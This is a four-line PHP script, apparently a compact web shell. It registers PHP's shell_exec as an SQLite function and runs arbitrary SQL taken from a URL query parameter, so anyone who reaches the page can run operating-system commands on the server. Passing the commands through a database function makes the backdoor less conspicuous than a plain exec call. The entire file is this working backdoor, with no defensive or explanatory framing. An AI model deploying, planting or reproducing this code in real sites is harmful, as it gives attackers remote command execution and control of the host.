<?php
$db = new PDO('sqlite::memory:');
$db->sqliteCreateFunction('f', 'shell_exec', 1);
foreach ($db->query($_GET['q'] ?? 'select 1') as $row) { echo $row[0]; }
